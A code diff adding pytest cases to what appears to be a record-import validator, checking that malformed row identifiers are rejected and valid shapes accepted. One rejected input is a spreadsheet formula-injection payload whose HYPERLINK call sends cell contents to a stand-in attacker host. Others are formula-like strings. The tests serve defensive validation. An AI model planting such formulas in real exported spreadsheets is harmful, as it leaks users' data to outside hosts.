@@ -270,3 +270,30 @@ def test_a_complete_row_is_not_partial_and_a_required_column_still_rejects() -> 
         strict.map_row(_local(dob=None), 2, today=TODAY)
 
     assert (rejected.value.field, rejected.value.rule) == ("dob", "is required")
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1;"open")',
+        "Imogen Tyler lives at 24 Laurel Close NE24 8DH",
+        "@SUM(1+1)",
+        "-2+3",
+        "K" * 65,
+        "CB 1",
+    ],
+)
+def test_a_row_key_not_shaped_like_a_record_identifier_rejects_the_row_and_is_not_kept(
+    benefit: SourceMapping, key: str
+) -> None:
+    values = _benefit(RECORD_ID=key)
+    with pytest.raises(ValidationError) as raised:
+        benefit.map_row(values, line=2)
+    assert raised.value.field == "RECORD_ID"
+    assert "record identifier" in raised.value.rule
+    assert benefit.row_key(values) is None  # nothing of it reaches the ledger or a report
+
+
+@pytest.mark.parametrize("key", ["CB1", "R-2025/00017", "urn:uuid:7f1c", "NHS_9434765919.v2", "K" * 64])
+def test_record_identifiers_of_the_usual_shapes_are_row_keys(benefit: SourceMapping, key: str) -> None:
+    assert benefit.map_row(_benefit(RECORD_ID=key), line=2).row_key == key
